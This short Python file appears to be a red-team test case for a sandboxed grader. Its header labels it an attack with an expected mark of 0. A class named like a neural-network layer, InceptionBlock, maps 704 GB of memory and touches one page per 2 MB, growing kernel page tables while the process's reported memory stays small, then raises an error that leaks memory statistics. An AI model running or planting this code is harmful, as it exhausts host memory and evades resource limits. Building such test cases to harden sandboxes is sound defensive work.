# attack: >-
#   Reads one page in 2 MB of a mapping of 704 GB: the page tables grow, the process does not.
# mark: 0
# seconds: 20
# naive: none

import ctypes, time
class InceptionBlock:
    def __init__(self, *a):
        c = ctypes.CDLL(None, use_errno=True)
        c.mmap.restype = ctypes.c_void_p
        c.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        c.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        size = 704 * 2**30
        p = c.mmap(None, size, 1, 0x22 | 0x4000, -1, 0)
        assert p and p != 2**64 - 1, ctypes.get_errno()
        c.madvise(p, size, 15)
        for at in range(p, p + size, 2**21):
            ctypes.c_char.from_address(at).value
        time.sleep(1)
        mem = [l for l in open("/proc/self/status") if l.startswith(("RssAnon", "RssShmem", "VmPTE"))]
        raise ValueError(f"{mem}")
